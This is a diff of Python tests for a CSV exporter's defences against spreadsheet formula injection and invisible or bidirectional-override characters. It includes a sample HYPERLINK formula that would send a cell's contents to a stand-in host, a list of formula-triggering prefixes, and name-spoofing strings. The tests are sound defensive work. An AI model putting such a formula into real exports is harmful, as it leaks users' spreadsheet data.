@@ -1,5 +1,6 @@
 import csv
 import io
+import json
 import re
 
 import pytest
@@ -7,8 +8,9 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from rooms.api.csv import csv_text
+from rooms.domain.shown_text import cleaned
 
-DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")  # noqa: RUF001 (the wide ones)
+DANGEROUS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")  # noqa: RUF001 (the wide ones)
 FORMULA = '=HYPERLINK("http://example.com/?"&A1;"Ann")'
 
 odd_text = st.text(
@@ -41,8 +43,8 @@ def test_without_rows_there_are_the_names() -> None:
     assert csv_text(("a", "b"), []) == b"\xef\xbb\xbfa,b\r\n"
 
 
-def test_what_has_a_separator_a_quote_or_a_line_end_is_quoted() -> None:
-    assert text_of("a,b", 'a"b', "a\r\nb", "a b") == '"a,b","a""b","a\r\nb",a b\r\n'
+def test_what_has_a_separator_or_a_quote_is_quoted() -> None:
+    assert text_of("a,b", 'a"b', "a b") == '"a,b","a""b",a b\r\n'
 
 
 def test_numbers_stay_numbers() -> None:
@@ -57,10 +59,30 @@ def test_truth_values_nothing_and_json() -> None:
 
 @pytest.mark.parametrize(
     "start",
-    [*DANGEROUS, *(f"{space}=" for space in (" ", "  ", "\u00a0", "\u3000", "\0", "\ufeff", '"'))],
+    [
+        *DANGEROUS,
+        *(f"{space}=" for space in (" ", "  ", '"', " " * 100, "\u2800", "\u3164" * 256)),
+    ],
 )
 def test_what_a_program_may_run_begins_with_an_apostrophe(start: str) -> None:
     assert cells(f"{start}1") == [[f"'{start}1"]]
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("\t=1", "' =1"),
+        ("\u00a0\u3000=1", "'  =1"),
+        ("\0\ufeff\u200b\u202e=1", "'=1"),
+        ("Ann\n=1", "Ann =1"),
+        ("Dr. \u202enahK", "Dr. nahK"),
+        ("\u2067Ann\u2069", "Ann"),
+        ("“\u2068Ann\u2069” left", "“\u2068Ann\u2069” left"),
+        ("\u2068=1\u2069", "'\u2068=1\u2069"),
+    ],
+)
+def test_a_cell_is_one_line_without_invisible_signs(text: str, cell: str) -> None:
+    assert cells(text) == [[cell]]
 
 
 @pytest.mark.parametrize(
@@ -71,7 +93,6 @@ def test_what_a_program_may_run_begins_with_an_apostrophe(start: str) -> None:
         "1+1",
         "a-b",
         "a@b.example",
-        "'",
         "8:acs:a_b",
         "2025-03-03T10:00:00+00:00",
         "a; b",
@@ -79,6 +100,13 @@ def test_what_a_program_may_run_begins_with_an_apostrophe(start: str) -> None:
 )
 def test_what_is_harmless_is_left_as_it_is(harmless: str) -> None:
     assert cells(harmless) == [[harmless]]
+
+
+def test_json_shows_what_nobody_sees_and_is_read_back() -> None:
+    name = "Ann\u202e\U000e0041\u00a0é"
+    ((cell,),) = cells([name])
+    assert cell == '["Ann\\u202e\\udb40\\udc41\\u00a0é"]'
+    assert json.loads(cell) == [name]
 
 
 def is_dangerous(cell: str) -> bool:
@@ -107,11 +135,13 @@ def test_no_text_is_a_formula_whatever_the_program_takes_for_the_separator(
         max_size=4,
     )
 )
-def test_it_is_read_back_but_for_the_apostrophes(values: list[str | float]) -> None:
+def test_it_is_read_back_but_for_the_apostrophes_and_what_nobody_sees(
+    values: list[str | float],
+) -> None:
     (row,) = cells(*values)
     for value, cell in zip(values, row, strict=True):
         if isinstance(value, str):
-            assert cell == value or cell.replace("'", "") == value.replace("'", "")
-            assert "'" in cell or cell == value
+            assert cell.replace("'", "") == cleaned(value).replace("'", "")
+            assert "'" in cell or cell == cleaned(value)
         else:
             assert type(value)(cell) == value
